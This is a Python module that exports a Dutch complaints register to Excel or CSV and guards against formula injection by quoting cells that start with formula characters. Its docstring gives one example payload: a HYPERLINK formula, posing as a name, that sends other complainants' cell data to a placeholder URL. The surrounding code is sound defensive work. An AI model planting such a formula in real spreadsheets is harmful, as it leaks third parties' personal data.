"""Writing a register to a file that is safe to open in Excel: .xlsx or .csv, chosen by the
file name's extension.

A text that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is what Excel
(and LibreOffice) take for a formula: a complainant who writes
``=HYPERLINK("http://…/?"&E3&E4;"Klik hier")`` as their name would otherwise send other
complainants' data away when someone clicks the cell. OWASP's advice against this
"CSV/formula injection" is followed: such a text gets a single quote in front, in both
formats, and in .xlsx every text is stored as a string, never as a formula. Import takes
the quote off again (``unescape_formula_text``), so an export read back in gives the same
names.

The .csv is the kind Dutch Excel opens by a double click: UTF-8 with a byte-order mark,
semicolons, CRLF line ends, quotes only where a value needs them, dates as dd-mm-jjjj.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from datetime import date, datetime
from pathlib import Path
from typing import Any, Protocol

from openpyxl import Workbook
from openpyxl.utils import get_column_letter

from app.atomic_files import atomic_output, write_bytes_atomically
from app.services.errors import ServiceError
from app.storage_errors import file_write_message

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
XLSX, CSV = ".xlsx", ".csv"
EXPORT_SUFFIXES = (XLSX, CSV)
CSV_DELIMITER = ";"
CSV_ENCODING = "utf-8-sig"  # the byte-order mark tells Excel it is UTF-8
CSV_DATE_FORMAT = "%d-%m-%Y"
XLSX_DATE_FORMAT = "DD-MM-YYYY"


def escape_formula_text(text: str) -> str:
    """``text`` as a spreadsheet shows it as text: a quote in front of a formula start.

    A text that already starts with quotes before a formula start gets one more, so that
    ``unescape_formula_text`` gives back exactly what was written."""
    if text.lstrip(QUOTE).startswith(FORMULA_STARTS):
        return QUOTE + text
    return text


def unescape_formula_text(text: str) -> str:
    """The reverse of ``escape_formula_text``: one leading quote before a formula start is
    taken off (a quote before anything else is the complainant's own)."""
    if text.startswith(QUOTE) and text.lstrip(QUOTE).startswith(FORMULA_STARTS):
        return text[1:]
    return text


def export_format(path: str | Path) -> str:
    """``.xlsx`` or ``.csv`` by the file name; another extension is refused in Dutch."""
    suffix = Path(path).suffix.lower()
    if suffix not in EXPORT_SUFFIXES:
        raise ServiceError(
            "Kies een bestandsnaam die eindigt op .xlsx (Excel-werkmap) of .csv "
            "(tekst met puntkomma's)."
        )
    return suffix


class SheetWriter(Protocol):
    def append(self, row: Sequence[Any]) -> None: ...


class _XlsxWriter:
    def __init__(self, columns: Sequence[str]) -> None:
        self.workbook = Workbook()
        self.sheet = self.workbook.worksheets[0]  # a new workbook has one sheet
        self.sheet.append(list(columns))
        self.rows = 0

    def append(self, row: Sequence[Any]) -> None:
        # openpyxl stores a text starting with "=" as a formula; after the escape none does.
        self.sheet.append([_xlsx_value(value) for value in row])
        self.rows += 1


def _xlsx_value(value: Any) -> Any:
    return escape_formula_text(value) if isinstance(value, str) else value


class _CsvWriter:
    def __init__(self, handle: io.TextIOBase, columns: Sequence[str]) -> None:
        # csv's defaults are what Excel reads: CRLF, quotes only where needed, doubled.
        self.writer = csv.writer(handle, delimiter=CSV_DELIMITER, lineterminator="\r\n")
        self.writer.writerow(columns)

    def append(self, row: Sequence[Any]) -> None:
        self.writer.writerow([_csv_value(value) for value in row])


def _csv_value(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.strftime(CSV_DATE_FORMAT + " %H:%M")
    if isinstance(value, date):
        return value.strftime(CSV_DATE_FORMAT)
    if isinstance(value, str):
        return escape_formula_text(value)
    return str(value)


@contextmanager
def sheet_writer(
    path: str | Path,
    columns: Sequence[str],
    *,
    title: str = "Register",
    widths: dict[str, int] | None = None,
    date_columns: Sequence[str] = (),
) -> Iterator[SheetWriter]:
    """A writer for rows in ``columns``; the file appears, whole, when the block ends.

    The format follows the extension (``export_format``). A file that cannot be written
    raises ``ServiceError`` with a Dutch message; a block that fails leaves no file."""
    target = Path(path)
    kind = export_format(target)
    try:
        if kind == CSV:
            # Streamed to the temporary file: a big register never sits in memory as text.
            with (
                atomic_output(target) as temporary,
                temporary.open("w", encoding=CSV_ENCODING, newline="") as handle,
            ):
                yield _CsvWriter(handle, columns)
            return
        writer = _XlsxWriter(columns)
        yield writer
        _finish_xlsx(writer, columns, title, widths or {}, date_columns)
        # Zipped in memory first: openpyxl's zip file, left open when the disk fills up,
        # would fail again when it is collected. The file is written whole or not at all.
        content = io.BytesIO()
        writer.workbook.save(content)
        write_bytes_atomically(target, content.getvalue())
    except OSError as error:
        raise ServiceError(file_write_message(error, target)) from error


def _finish_xlsx(
    writer: _XlsxWriter,
    columns: Sequence[str],
    title: str,
    widths: dict[str, int],
    date_columns: Sequence[str],
) -> None:
    sheet = writer.sheet
    sheet.title = title
    for position, column in enumerate(columns, start=1):
        letter = get_column_letter(position)
        if column in widths:
            sheet.column_dimensions[letter].width = widths[column]
        if column in date_columns:
            for cell in sheet[letter][1:]:
                cell.number_format = XLSX_DATE_FORMAT
    sheet.freeze_panes = "A2"
    sheet.auto_filter.ref = f"A1:{get_column_letter(len(columns))}{writer.rows + 1}"
